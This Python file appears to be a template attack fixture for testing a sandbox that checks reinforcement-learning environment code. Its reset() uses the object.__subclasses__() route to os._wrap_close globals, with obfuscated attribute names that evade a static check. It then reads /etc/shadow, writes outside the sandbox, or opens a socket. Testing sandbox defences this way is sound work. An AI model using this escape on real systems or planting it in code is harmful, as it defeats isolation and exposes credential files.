"""Attack: the four lines that walk ``object.__subclasses__()`` to ``os._wrap_close`` and its
``__init__.__globals__`` (the os module, past the import allow-list and the static check,
which reads only constant ``getattr`` names), then try harm with it in reset(): __HARM__."""


def _os_globals():
    for cls in getattr(object, "__sub" + "classes__")():
        if cls.__name__ == "_wrap_close":
            return getattr(getattr(cls, "__in" + "it__"), "__glo" + "bals__")
    raise LookupError("os._wrap_close not found")


def read_shadow(g):
    fd = g["open"]("/etc/shadow", g["O_RDONLY"])
    return g["read"](fd, 4096).decode()


def write_outside(g):
    fd = g["open"]("__PATH__", g["O_WRONLY"] | g["O_CREAT"], 0o644)
    g["write"](fd, b"escaped")
    return "wrote __PATH__"


def open_socket(g):
    socket = getattr(g["sys"].modules["builtins"], "__imp" + "ort__")("socket")
    with socket.create_connection(("1.1.1.1", 80), timeout=1) as conn:
        return "connected to " + str(conn.getpeername())


class ReachOsGlobalsEnv:
    def __init__(self, max_turns=25, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        g = _os_globals()
        return "reached " + g["__name__"] + ": " + __HARM__(g), {}

    def step(self, action):
        return "ok", 1.0, True, False, {}

    def solution(self):
        return ["\\boxed{x}"]
